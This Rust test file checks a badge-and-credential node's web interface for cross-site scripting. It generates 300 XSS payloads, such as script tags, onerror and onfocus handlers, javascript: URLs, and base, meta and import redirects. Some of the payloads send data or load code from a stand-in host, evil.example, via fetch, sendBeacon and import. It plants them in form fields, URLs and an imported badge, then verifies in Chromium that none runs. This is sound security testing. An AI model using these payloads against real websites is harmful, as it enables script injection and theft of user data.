//! What must not work, tried in Debian's Chromium: 300 scripts in the fields that people and badges from
//! elsewhere fill, forms and frames of other pages, and another name for the address of the node.

use bot_protocol::api::{
    AchievementDraft, ContactDraft, IdentityDraft, ImportRequest, IssueRequest, PageQuery,
    PartyKind,
};
use bot_protocol::canon::json::Value;
use bot_protocol::canon::multibase::encode_base64;
use bot_protocol::identity::{Did, SecretKey};
use bot_tests::browser::{Browser, between, leads_to};
use bot_tests::http::{Node, settings};
use serde_json::json;

use crate::chromium::{CHROMIUM, home, link, run, tools};

/// How a script is smuggled in, with `S` where it stands.
const WAYS: [&str; 30] = [
    "<script>S</script>",
    "</title><script>S</script>",
    "</textarea><script>S</script>",
    "\"><script>S</script>",
    "'><script>S</script>",
    "--><script>S</script>",
    "<img src=x onerror=S>",
    "\"><img src=x onerror=\"S\">",
    "<svg onload=S>",
    "<svg><script>S</script></svg>",
    "<math><mtext><script>S</script></mtext></math>",
    "<body onload=S>",
    "<details open ontoggle=S>",
    "<input autofocus onfocus=S>",
    "\" autofocus onfocus=\"S\" x=\"",
    "' autofocus onfocus='S' x='",
    "<iframe srcdoc=\"<script>S</script>\">",
    "<iframe src=\"javascript:S\">",
    "<object data=\"javascript:S\">",
    "<a href=\"javascript:S\">x</a>",
    "<form action=\"javascript:S\"><button>x",
    "<base href=\"http://evil.example/\">",
    "<link rel=stylesheet href=\"http://evil.example/a.css\">",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
    "<style>@import 'http://evil.example/a.css';</style>",
    "{{ S }}${S}<%= S %>",
    "%3Cscript%3ES%3C/script%3E",
    "&lt;script&gt;S&lt;/script&gt;",
    "\u{2028}<script>S</script>\u{202e}",
    "<scr\u{0}ipt>S</scr\u{0}ipt>",
];

/// What it would do; each tells itself from the others by its number.
const DEEDS: [&str; 10] = [
    "alert(N)",
    "globalThis.ran=N",
    "fetch('http://evil.example/N')",
    "new Image().src='http://evil.example/N'",
    "location='http://evil.example/N'",
    "eval('globalThis.ran=N')",
    "document.write('<script>globalThis.ran=N<\\/script>')",
    "navigator.sendBeacon('http://evil.example/N')",
    "import('http://evil.example/N.js')",
    "open('http://evil.example/N')",
];

/// All 300, each with a mark by which it is found again.
fn payloads() -> Vec<String> {
    let pairs = WAYS.iter().flat_map(|way| DEEDS.iter().map(move |deed| (way, deed)));
    let one = |(number, (way, deed)): (usize, (&&str, &&str))| {
        let deed = deed.replace('N', &number.to_string());
        format!("x{number}y{}", way.replace('S', &deed))
    };
    // No text holds a character that is none.
    pairs.enumerate().map(one).map(|text| text.replace('\u{0}', "")).collect()
}

/// Badges, words and names that hold all of them; what anybody sees of it, and what the owner does.
struct Planted {
    own: Vec<String>,
    open: Vec<String>,
}

async fn named(node: &Node, all: &[String]) {
    for (number, text) in all.iter().enumerate() {
        let did =
            Did::from(SecretKey::from_seed(&[u8::try_from(number % 250).unwrap(); 32]).public());
        // Some names are no names; those are looked at elsewhere.
        let note = Some(text.clone());
        let draft = ContactDraft { did: did.to_string(), name: text.clone(), note };
        let _refused = node.running.acts().add_contact(draft).await;
    }
}

/// A badge each for a dozen of texts, in all of its fields.
async fn badges(node: &Node, me: &mut Browser<'_>, all: &[String]) -> Vec<String> {
    let acts = node.running.acts();
    let mut found = Vec::new();
    for (number, some) in all.chunks(12).enumerate() {
        let text = Value::from(some.join(" "));
        let draft = AchievementDraft {
            language: Some(Value::from("en")),
            name: Value::from(some[number % some.len()].clone()),
            description: text.clone(),
            criteria: text.clone(),
            tag: Some(Value::Array(some.iter().map(|one| Value::from(one.clone())).collect())),
            human_code: Some(text),
            ..AchievementDraft::default()
        };
        let made = acts.add_achievement(draft).await.unwrap();
        let request = IssueRequest {
            achievement: made.id.clone(),
            to: acts.identities(&PageQuery::default()).unwrap().items[0].name.clone(),
            narrative: Some(some.join(" ")),
            ..IssueRequest::default()
        };
        acts.issue(request).await.unwrap();
        found.push(format!("/award/{}", bot_node::percent::encoded(&made.id)));
    }
    let offers = crate::waits_for(me, "/", "/offers/").await;
    let mut offers = between(&offers, "href=\"/offers/", "\"")
        .into_iter()
        .map(str::to_owned)
        .collect::<Vec<_>>();
    found.push(format!("/offers/{}", offers.pop().unwrap()));
    for offer in offers {
        me.fill(&format!("/offers/{offer}/accept"), &[("publish", "yes")]).await;
    }
    found
}

/// The words and forms of pages, with a dozen of texts each.
async fn said(me: &mut Browser<'_>, other: &str, all: &[String]) -> Planted {
    let mut texts = all.chunks(12).map(|some| some.join(" "));
    let mut text = || texts.next().unwrap_or_default();
    let (one, two, three) = (text(), text(), text());
    let short = |text: &str| text.chars().take(180).collect::<String>();
    me.fill("/people/recognise", &[("with", other), ("words", &one), ("scope", &short(&two))])
        .await;
    let said = [("of", other), ("comment", &*two), ("useful", "<img src=x onerror=alert(1)>")];
    me.fill("/people/endorse", &said).await;
    me.fill("/people/support", &[("from", other), ("words", &three)]).await;
    me.fill("/node/tokens", &[("about", &short(&one)), ("verify", "yes")]).await;
    let page = me.read("/passport").await;
    let held: Vec<String> = between(&page, "href=\"/passport/urn", "\"")
        .iter()
        .map(|at| format!("/passport/urn{at}"))
        .collect();
    let mut fields = vec![("title".to_owned(), short(&three)), ("words".to_owned(), one.clone())];
    for (number, at) in held.iter().enumerate() {
        let link = format!("https://evil.example/\"onmouseover=\"alert({number})");
        me.fill(&format!("{at}/evidence"), &[("words", &*text()), ("link", &link)]).await;
        me.fill(&format!("{at}/note"), &[("tags", "\"><script>alert(1)</script>, '><b>")]).await;
        let id = at.trim_start_matches("/passport/").replace("%3A", ":");
        fields.push((format!("badge{number}"), id));
    }
    fields.push(("open".to_owned(), "yes".to_owned()));
    let fields: Vec<(&str, &str)> =
        fields.iter().map(|(name, value)| (&**name, &**value)).collect();
    let page = me.fill("/portfolios/new", &fields).await;
    let shown = leads_to(&page, "http://");
    let shown = format!("/shown/{}", shown.rsplit('/').next().unwrap());
    let page = me.read("/portfolios").await;
    let portfolio = between(&page, "<h2><a href=\"", "\"")[0].to_owned();
    let mut own: Vec<String> = held.iter().map(|at| format!("{at}/verdict")).collect();
    own.extend(held);
    own.push(portfolio);
    let lists = [
        "/",
        "/passport",
        "/passport/timeline",
        "/passport?tag=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
        "/passport?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
        "/award",
        "/people",
        "/people/recognise",
        "/people/endorse",
        "/people/support",
        "/people/graph",
        "/endorsements",
        "/communities",
        "/portfolios",
        "/node",
        "/node/tokens",
        "/ask",
        "/take",
        "/people/path?who=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?done=%3Cscript%3Ealert(1)%3C/script%3E",
    ];
    own.extend(lists.map(str::to_owned));
    for (list, begin) in [
        ("/people", "/recognitions/"),
        ("/endorsements", "/endorsements/urn"),
        ("/endorsements", "/requests/"),
    ] {
        own.push(leads_to(&me.read(list).await, begin));
    }
    Planted { own, open: vec![shown.clone(), shown.replace("/shown/", "/embed/")] }
}

#[tokio::test(flavor = "multi_thread")]
async fn three_hundred_scripts_run_nowhere_and_no_other_page_reaches_the_node() {
    let Some(tools) = tools() else { return };
    let node = Node::start(settings()).await;
    let all = payloads();
    assert_eq!(all.len(), 300);
    let mut me = Browser::inside(&node, "en").await;
    me.fill("/welcome", &[("party", "person"), ("name", "<b onclick=alert(1)>Lea</b>")]).await;
    let draft = IdentityDraft {
        party: PartyKind::Organisation,
        name: "\"><img src=x onerror=alert(1)>".to_owned(),
        description: None,
        url: None,
        dry_run: false,
    };
    let other = node.running.acts().make_identity(draft).await.unwrap().did;
    named(&node, &all).await;
    let mut paths = badges(&node, &mut me, &all).await;
    let planted = said(&mut me, &other, &all).await;
    paths.extend(planted.own);
    elsewhere(&node).await;
    let task = json!({
        "home": home(&node), "link": link(&node), "paths": paths, "open": planted.open,
        "browser": CHROMIUM, "payloads": all.len(),
    });
    let (well, said) = run(tools, "attack.mjs", task).await;
    assert!(well, "{said}");
}

/// An old badge of another program, with scripts where it has words: it is refused or kept, and shown as text.
async fn elsewhere(node: &Node) {
    let script = "<script>alert(1)</script>";
    let badge = json!({
        "@context": "https://w3id.org/openbadges/v2", "type": "Assertion",
        "id": "https://evil.example/\"><script>alert(1)</script>",
        "recipient": { "type": "email", "hashed": false, "identity": "lea@school.example" },
        "issuedOn": "2020-01-01T00:00:00Z", "narrative": script,
        "verification": { "type": "hosted" },
        "badge": {
            "type": "BadgeClass", "id": "https://evil.example/class", "name": script,
            "description": script, "image": "javascript:alert(1)", "criteria": { "narrative": script },
            "issuer": { "type": "Issuer", "id": "https://evil.example/", "name": script, "url": "javascript:alert(1)" },
        },
    });
    let request = ImportRequest {
        document: encode_base64(badge.to_string().as_bytes()),
        recipient: Some("lea@school.example".to_owned()),
        ..ImportRequest::default()
    };
    let _refused = node.running.acts().import(request).await;
}
